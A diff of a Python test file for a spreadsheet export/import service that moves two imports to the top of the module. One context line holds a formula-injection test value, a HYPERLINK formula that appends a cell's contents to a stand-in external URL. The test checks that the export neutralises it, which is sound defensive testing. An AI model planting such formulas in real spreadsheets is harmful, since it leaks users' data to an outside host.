@@ -3,8 +3,10 @@ which imports back unchanged."""
 
 from __future__ import annotations
 
+import asyncio
 import io
 import json
+import zipfile
 
 import sqlalchemy as sa
 from openpyxl import Workbook, load_workbook
@@ -238,7 +240,6 @@ async def test_export_is_scoped_filtered_and_imports_back_unchanged(http, gql, d
 
 
 async def test_concurrent_imports_of_the_same_file_never_duplicate(http, gql, demo, sessionmaker):
-    import asyncio
 
     county = await gql.login("edu-440106")
     content = fill(await template(http, county), [row(1), row(2)])
@@ -280,7 +281,6 @@ async def test_text_that_looks_like_a_formula_is_exported_as_text_and_round_trip
     await register(gql, county, 1, parts=(), name='=HYPERLINK("http://x.example/"&C2,"点此")')
     response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {county}"})
     with io.BytesIO(response.content) as raw:
-        import zipfile
 
         sheet_xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml
@@ -308,7 +308,6 @@ async def test_odd_cells_are_row_errors_in_chinese(http, gql, demo):
 
 
 async def test_a_damaged_xlsx_is_not_xlsx(http, gql, demo):
-    import zipfile
 
     county = await gql.login("edu-440106")
     good = fill(await template(http, county), [row(1)])
